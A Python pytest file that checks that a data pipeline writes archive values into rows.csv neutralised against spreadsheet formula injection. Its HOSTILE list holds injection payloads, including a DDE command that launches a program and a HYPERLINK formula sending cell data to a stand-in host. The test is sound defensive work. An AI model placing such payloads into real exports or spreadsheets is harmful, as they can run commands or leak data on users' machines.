"""Breaker s18: a mapping's carry_columns copied into rows.csv / rows.parquet."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path
from typing import Any

import pytest

from connectors.objects import ObjectStore
from connectors.s3 import Location, S3Store, make_s3_client
from flows.attach_flow import run_attach
from tests.support.scenario import api_env, load_world
from tests.support.legacy_archives import stage_archive

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("prefect_harness")]

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1;\"open\")", "+1+cmd|' /C calc'!A0", "@SUM(1;2)",
           "-2+3", "A10\n=1+1", "\tA11"]


def test_carried_values_that_are_formulas_are_inert_in_rows_csv(
    fin_sandbox: Any, bucket: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
) -> None:
    """carrier_c carries Satz-ID into the report. Archive cells holding formulas (and a newline) must reach
    rows.csv inert (quoted with a leading apostrophe, one CSV record per row) and rows.parquet as they were."""
    archive, mapping, world, _ = stage_archive("carrier_c", bucket)
    load_world(fin_sandbox.url, world)
    api_env(monkeypatch, fin_sandbox.url, tmp_path)
    store = ObjectStore(S3Store(make_s3_client()))
    loc = Location.parse(archive)
    lines = store.read(loc).decode("cp1252").splitlines()
    for i, value in enumerate(HOSTILE, start=1):
        quoted = '"' + value.replace('"', '""') + '"'
        lines[i] = quoted + lines[i][lines[i].index(";"):]
    store.write(loc, ("\r\n".join(lines) + "\r\n").encode("cp1252"), overwrite=True)

    summary = asyncio.run(run_attach(archive, f"s3://{bucket}/reports", mapping=mapping, dry_run=True))

    report = Location.parse(summary["report"])
    text = store.read(report.child("rows.csv")).decode("utf-8")
    records = list(csv.DictReader(io.StringIO(text)))
    assert len(records) == summary["rows_in"]
    cells = [r["Satz-ID"] for r in records]
    for value in HOSTILE:
        shown = [c for c in cells if c.lstrip("'") == value]
        assert shown, (value, cells)
        # what a spreadsheet sees as the cell's start must not open a formula
        assert not shown[0].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), shown[0]
